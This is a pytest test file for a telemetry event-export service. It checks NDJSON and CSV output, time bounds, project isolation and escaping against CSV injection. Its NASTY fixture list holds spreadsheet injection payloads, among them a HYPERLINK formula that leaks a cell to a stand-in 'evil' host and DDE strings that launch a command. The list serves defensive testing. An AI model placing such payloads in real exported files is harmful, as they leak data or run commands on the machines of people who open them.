"""telemetry.services.exports: CSV and NDJSON, bounded by receive time, without IP hashes."""

import csv
import datetime as dt
import io
import json

import pytest

from telemetry.services.exports import export_events
from tests.factories import ingest_at, make_project

pytestmark = pytest.mark.django_db

DAY = dt.datetime(2025, 6, 10, 9, tzinfo=dt.UTC)


def test_ndjson_has_one_event_per_line_oldest_first():
    p = make_project().project
    ingest_at(p, DAY + dt.timedelta(hours=1), "inst_bbbb0002", name="app.stop")
    ingest_at(p, DAY, "inst_aaaa0001")
    out = io.StringIO()
    assert export_events(project=p, out=out, fmt="ndjson") == 2
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [(e["install_id"], e["name"]) for e in lines] == [
        ("inst_aaaa0001", "app.start"),
        ("inst_bbbb0002", "app.stop"),
    ]
    assert lines[0]["received_at"] == DAY.isoformat()
    assert "ip_hash" not in lines[0]


def test_csv_has_a_header_and_since_until_bound_receive_time():
    p = make_project().project
    for day in range(3):
        ingest_at(p, DAY + dt.timedelta(days=day), f"inst_day{day}_0001")
    out = io.StringIO()
    n = export_events(
        project=p,
        out=out,
        fmt="csv",
        since=DAY + dt.timedelta(days=1),
        until=DAY + dt.timedelta(days=2),
    )
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert n == 1
    assert [r["install_id"] for r in rows] == ["inst_day1_0001"]
    assert rows[0]["properties"] == "{}"


def test_it_exports_only_the_project_asked_for():
    p, other = make_project().project, make_project().project
    ingest_at(other, DAY, "inst_other001")
    out = io.StringIO()
    assert export_events(project=p, out=out, fmt="ndjson") == 0
    assert out.getvalue() == ""


# What a spreadsheet runs as a formula, and what a naive CSV writer mangles (CSV injection).
NASTY = [
    '=HYPERLINK("http://evil/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'comma, "quotes" and\nnewline',
    "plain-1.0",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _stored_as_sent(cell: str, sent: str) -> bool:
    """A formula-like value is prefixed with one quote (OWASP); everything else is exact."""
    return cell == ("'" + sent if sent.startswith(FORMULA_START) else sent)


def test_csv_cells_never_start_a_formula_and_read_back_exactly_across_chunks():
    from telemetry.ingest.pipeline import ingest
    from telemetry.ingest.schema import IncomingEvent
    from telemetry.services.exports import CHUNK_SIZE

    p = make_project(install_rate="100000/h", ip_rate="100000/h").project
    n = CHUNK_SIZE + 5  # rows on both sides of the iterator's chunk boundary
    events = [
        IncomingEvent(
            install_id=f"-inst_{i:08d}",  # install ids may start with "-" too
            name="app.start",
            timestamp=DAY,
            event_id=f"-evt_{i:08d}",
            session_id=NASTY[i % len(NASTY)],
            app_version=NASTY[(i + 1) % len(NASTY)],
            os=NASTY[(i + 2) % len(NASTY)],
            properties={"note": NASTY[i % len(NASTY)]},
        )
        for i in range(n)
    ]
    ingest(project=p, events=events, client_ip="192.0.2.10", now=DAY)
    out = io.StringIO()
    assert export_events(project=p, out=out, fmt="csv") == n
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    header, body = rows[0], rows[1:]
    assert len(body) == n
    for cells in body:
        assert not any(c.startswith(FORMULA_START) for c in cells), cells
    by_event = {r[header.index("event_id")]: dict(zip(header, r, strict=True)) for r in body}
    for e in events:
        r = by_event["'" + e.event_id]
        assert _stored_as_sent(r["install_id"], e.install_id)
        for f in ("session_id", "app_version", "os"):
            assert _stored_as_sent(r[f], getattr(e, f)), (f, r[f])
        assert json.loads(r["properties"]) == e.properties  # JSON starts with "{": as sent
